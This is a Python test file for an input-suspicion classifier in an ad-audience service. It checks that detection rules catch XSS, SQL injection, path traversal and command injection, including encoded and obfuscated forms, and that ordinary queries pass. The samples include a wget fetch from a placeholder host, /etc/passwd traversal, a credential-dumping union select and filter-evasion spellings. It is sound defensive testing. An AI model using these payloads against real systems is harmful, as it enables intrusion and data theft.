"""Input detection, held to its own table first: each rule stops one text and lets its neighbour through."""

from __future__ import annotations

import csv
import re
from base64 import b64encode
from math import prod
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import assume, example, given, settings
from hypothesis import strategies as st

from service.stages.suspicion import classify, decode, forms
from service.stages.suspicion_rules import RULES
from service.stages.suspicion_rules.loaded import LOADED_WORDS
from service.stages.suspicion_rules.names import any_of
from tests.stages.briefs import BRIEFS
from tests.stages.variants import VARIANTS

_parser = re._parser  # type: ignore[attr-defined]

ATTACKS = {"xss", "sqli", "path-traversal", "code-injection"}
MOST_PATHS = 200_000_000

ORDINARY = [
    "cars/trucks",
    "women 30-39",
    "3 1/2 inch drawer pulls",
    "select comfort mattress buyers",
    "R&D managers",
    "O'Reilly readers",
    "O’Reilly readers",
    "Drop shipping union members; insert coupons",
    "C++ developers",
    "AT&T customers",
    "<3 music lovers",
    "moms & dads (35+)",
    "50% off shoppers",
    "A > B > C",
    "union select sandwiches",
    "$150k+ households",
    "http://example.com readers",
    "https://www.example.com/path?q=shoes&page=2 visitors",
    "100% cotton -- organic",
    "script writers",
    "javascript developers",
    "javascript: the good parts",
    "javascript: node/react + vue",
    "bash/zsh users",
    "python & node.js engineers",
    "select from the best hotels",
    "where to eat or drink 1=1 fun?",
    "can i order by 5 or later",
    "which hotels in evans have good reviews",
    "men; women; kids; top brands",
    "brands; top 10",
    'tv 55" or 65" screen',
    "kids' & ladies' shoes 5'-6' tall",
    "rugs 5' or 6' wide, 5' x 7' - 8' x 10'",
    "moms' and dads' day",
    "teachers' union",
    "girls' and boys like pizza; Boys' and Girls > Shoes",
    "dental (implants) - procedure",
    "gifts for 50-100 (dollars)",
    "gas (natural). Shell stations",
    "web/mobile (ios)",
    "'moms' and 'dads'",
    '"luxury" or "premium" cars',
    "Interest > Food & Drink > Non-Alcoholic Beverages",
    "Household Data > $20000 - $39999",
    "cats & dogs; fish | birds",
    "storm alert(s), moms(25-34)",
    "users of windows (version 11)",
    "black\\white interiors",
    "wait for it... :)",
    "Männer 30-39, Zürich",
    "東京の車好き",
    "автолюбители 25-40",
    "#fitness @home",
    "${AUCTION_PRICE} and {{campaign.name}} macros",
    "email me at jane.doe@example.com",
    "24/7 gyms w/ pools, A/B testers",
    "age > 30 and income < 50000",
    "age=25 and income=40000",
    '(("cars" OR "trucks") AND ("suv" OR "van")) NOT ("used")',
    "create table decorations",
    "sleep(8 hours), year(2024), week(s)",
    "name|age|id",
    "men; women; id",
    "luxury ($$$)",
    ">:(",
    "%brand% %%CLICK_URL%%",
    "process(ed) food, system(s) integrators",
    "do {something} fun",
    "18-24) or (25-34",
    "$AAPL investors; A$AP Rocky & $uicideboy$ fans",
    '{"age":"25-34","interests":["sports","news"]}',
    "AUTO_INTENDERS_2024_Q1",
    "6R2OS3JNSM-48-IN-0ZENVYLUJJL",
    "1=1 scale models",
    "`vintage` jeans",
    "`premium` & `luxury` sedan intenders",
    "C:\\ drive users",
    "NC; SC; VA",
    "nc|sc|va",
    "VA;NC;SC",
    "id; ssn",
    "Verizon; AT&T",
    "MD5(email)",
    "SHA1(phone)",
    "cast(s) & crew",
    "${GDPR_CONSENT_123}",
    "${AUCTION_PRICE:B64}",
    "__TIMESTAMP__",
    "__IDFA__ & __OAID__",
    "@@CLICK@@",
    "(new) | baseball",
    "Dunkin' | Starbucks",
    "Dunkin' -- students",
    "ladies' -- winter boots",
    "(new)|(used)",
    '"new"|"used"',
    "'suv';'van'",
    "auto|{keyword}",
    "retirement {401(k)}",
    "babies {$5-$10}",
    "$TSLA; $GME; $AMC",
    "(kids) or pets = yes",
    'dating or "select" + shoes',
    "org.mozilla.firefox users",
    "is null and void",
    "set $75k+",
    "convert ~30 min",
    "Top > Toys... > Minivans",
    "PS aux cable",
    "free deals !?",
]

LAYERS = {
    "percent": quote,
    "percent of everything": lambda text: "".join(f"%{byte:02X}" for byte in text.encode()),
    "html numbers": lambda text: "".join(f"&#{ord(letter)};" for letter in text),
    "html hexadecimal": lambda text: "".join(f"&#x{ord(letter):x};" for letter in text),
    "backslash x": lambda text: "".join(f"\\x{ord(letter):02x}" for letter in text),
    "backslash u": lambda text: "".join(f"\\u{ord(letter):04x}" for letter in text),
    "percent u": lambda text: "".join(f"%u{ord(letter):04x}" for letter in text),
    "full width": lambda text: "".join(
        chr(ord(letter) + 0xFEE0) if "!" <= letter <= "~" else letter for letter in text
    ),
    "upper case": str.upper,
    "wide blanks": lambda text: text.replace(" ", "\t \xa0"),
    "unseen characters": "\u200b".join,
    "blanks around": "  {}  ".format,
    "base64": lambda text: b64encode(text.encode()).decode(),
}
PLAIN_ATTACKS = {
    "<svg onload=alert(1)>": "xss",
    "1' union select name, pass from users --": "sqli",
    "../../../../etc/passwd": "path-traversal",
    "; wget http://x.example/a -O /run/a": "code-injection",
}

rules = pytest.mark.parametrize("rule", RULES, ids=lambda rule: f"{rule.attack}:{rule.name}")


@rules
def test_a_rule_catches_its_own_example(rule):
    assert any(re.search(rule.pattern, form) for form in forms(rule.stops))
    assert classify(rule.stops) == rule.attack


@rules
def test_the_neighbour_of_an_attack_passes_every_rule(rule):
    assert [other.name for other in RULES if any(re.search(other.pattern, form) for form in forms(rule.passes))] == []
    assert classify(rule.passes) is None


@rules
def test_a_rule_says_what_it_is_for(rule):
    assert rule.attack in ATTACKS
    assert rule.reason.endswith(".")
    assert rule.stops != rule.passes
    assert [other.name for other in RULES].count(rule.name) == 1


@rules
def test_a_pattern_is_bounded_so_that_no_text_can_make_it_slow(rule):
    assert _paths(_parser.parse(rule.pattern)) <= MOST_PATHS


@pytest.mark.parametrize("pattern", ["a*b", "a+?", "(?:a{0,9}){0,9}b", "(?:ab|c){1,}"])
def test_the_check_of_patterns_finds_those_that_are_not_bounded(pattern):
    assert _paths(_parser.parse(pattern)) > MOST_PATHS


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_queries_pass(text):
    assert classify(text) is None


def test_what_honest_people_type_passes():
    assert len(set(BRIEFS)) >= 500
    assert [brief for brief in BRIEFS if classify(brief)] == []


@pytest.mark.parametrize("attack", VARIANTS)
def test_new_spellings_of_known_attacks_are_caught(attack):
    assert len(set(VARIANTS[attack])) >= 100
    assert [text for text in VARIANTS[attack] if classify(text) is None] == []


@pytest.mark.parametrize("slip", ['"', "'", "\\", "`", "<", ";", "?", "...", "???", "--", ":-)"])
def test_one_mark_alone_is_a_slip_of_the_finger(slip):
    assert classify(slip) is None


def test_any_of_matches_its_words_and_no_others():
    pattern = re.compile(any_of("cat catch ld.so at"))
    assert [word for word in ["cat", "catch", "ld.so", "at", "ca", "ldxso", "catc"] if pattern.fullmatch(word)] == [
        "cat", "catch", "ld.so", "at",
    ]  # fmt: skip


@pytest.mark.parametrize("layer", LAYERS)
@pytest.mark.parametrize("text", PLAIN_ATTACKS)
def test_an_attack_is_seen_through_a_disguise(text, layer):
    assert classify(text) == PLAIN_ATTACKS[text]
    assert classify(LAYERS[layer](text)) in ATTACKS


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(sorted(PLAIN_ATTACKS)), st.lists(st.sampled_from(["percent", "html numbers"]), max_size=3))
def test_an_attack_is_seen_through_any_three_layers(text, layers):
    for layer in layers:
        text = LAYERS[layer](text)
    assume(len(text) <= 1000)
    assert classify(text) in ATTACKS


@pytest.mark.parametrize(
    "text",
    [
        "union/**/select/**/1,2",
        "1 /*!50000union*/ /*!select*/ 1,2",
        "uNiOn+aLl+sElEcT+1,2",
        "1 union -- x\nselect 1,2",
        "x; c'a't /e't'c/pa\\sswd",
        "w^ho^ami",
        "%c0%ae%c0%ae%c0%af",
        "javas&Tab;cript:alert&lpar;1&rpar;",
        "<\x00scr\x00ipt>alert(1)",
        "x%0d%0aSet-Cookie: a=b",
        "http://①⑥⑨。②⑤④。①⑥⑨。②⑤④/",
    ],
)
def test_comments_quoting_and_lookalikes_hide_nothing(text):
    assert classify(text) in ATTACKS


def test_a_link_is_no_attack_but_one_into_the_network_is():
    assert classify("https://example.com/readers") is None
    assert classify("http://127.0.0.1/admin") == "code-injection"


def test_decoding_stops_after_three_layers_and_at_1500_characters():
    assert decode(quote(quote(quote("<b>")))) == "<b>"
    assert decode(quote(quote(quote(quote("<b>"))))) == "%3Cb%3E"
    assert len(decode("\ufdfa" * 1000)) == 1500


def test_bytes_that_are_no_utf8_are_read_one_by_one():
    assert decode("%e4%f6") == "äö"
    assert decode("%c3%a4") == "ä"


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=60) | st.text("'\"<>()=;|&%#\\${}[]/.*+-x1 \n", max_size=60))
def test_every_text_has_an_answer(text):
    assert classify(text) in ATTACKS | {None}


_words = sorted({word for rule in RULES for word in re.findall(r"\w+", rule.stops + " " + rule.passes)} | LOADED_WORDS)
_marks = st.sampled_from([" ", ", ", "/", "-", ". ", "'", " & ", " > ", " - ", ": ", "."])


@settings(max_examples=300, deadline=None)
@example([("top", ". "), ("al", " ")])
@given(st.lists(st.tuples(st.sampled_from(_words), _marks), min_size=1, max_size=6))
def test_the_fast_path_for_plain_words_hides_nothing_from_the_rules(parts):
    text = "".join(word + mark for word, mark in parts).rstrip(" ,.-&>:/'")
    caught = [rule.attack for form in forms(text) for rule in RULES if re.search(rule.pattern, form)]
    assert classify(text) == (caught[0] if caught else None)


@pytest.mark.parametrize(
    "token",
    ["'", '"', "<", "(", ")", "' or ", "union ", "select ", "a", "1", ".", "../", "/", "\\", ";", "|", "&", "%", "%25",
     "{", "$", "${", "&#60", "&amp;", "<a ", "<a on", "/*", "*/", "-- ", "#", "a=", "@", "`", "=", "j a v a ", "0x",
     "[", "null,", "\n", "A1b2", "\ufdfa", "a_", "a.", "/a", "for ", "if (", "case when ", "+", "~", "\x00", "\u200b"],
)  # fmt: skip
def test_a_thousand_characters_of_one_token_come_to_an_end(token):
    for text in ((token * 1000)[:1000], "x " + (token * 1000)[:990] + "\x00 !"):
        assert classify(text) in ATTACKS | {None}


def _paths(tree):
    """Return how many ways a pattern may try at one place of a text, at most; infinite where nothing bounds it."""
    return prod(_ways(operator, value) for operator, value in tree)


def _ways(operator, value):
    name = str(operator)
    if name in ("MAX_REPEAT", "MIN_REPEAT", "POSSESSIVE_REPEAT"):
        least, most, inner = value
        if most is _parser.MAXREPEAT:
            return float("inf")
        ways = _paths(inner)
        if name == "POSSESSIVE_REPEAT" and ways == 1 and most is not _parser.MAXREPEAT:
            return 1  # takes what it can and gives nothing back
        return sum(ways**times for times in range(least, most + 1))
    if name == "BRANCH":
        return _branches(value[1])
    if name in ("SUBPATTERN", "ASSERT", "ASSERT_NOT"):
        return _paths(value[-1])
    return 1


def _branches(branches):
    """Where each alternative begins with another letter, only one of them can go on: a list of names is one path."""
    ways = [_paths(branch) for branch in branches]
    firsts = [letter for branch in branches for letter in _firsts(branch)]
    return max(ways) if None not in firsts and len(set(firsts)) == len(firsts) else sum(ways)


def _firsts(branch):
    operator, value = branch[0] if branch else ("", None)
    if str(operator) == "LITERAL":
        return [value]
    if str(operator) == "IN" and all(str(member[0]) == "LITERAL" for member in value):
        return [member[1] for member in value]
    return [None]


def test_nothing_that_a_planner_wrote_in_the_sample_looks_like_an_attack():
    with (Path(__file__).parents[2] / "service/catalogue/sample.csv").open(encoding="utf-8", newline="") as file:
        texts = [row[column] for row in csv.DictReader(file) for column in ("name", "description", "path")]

    assert len(texts) > 4000
    assert [text for text in texts if classify(text)] == []
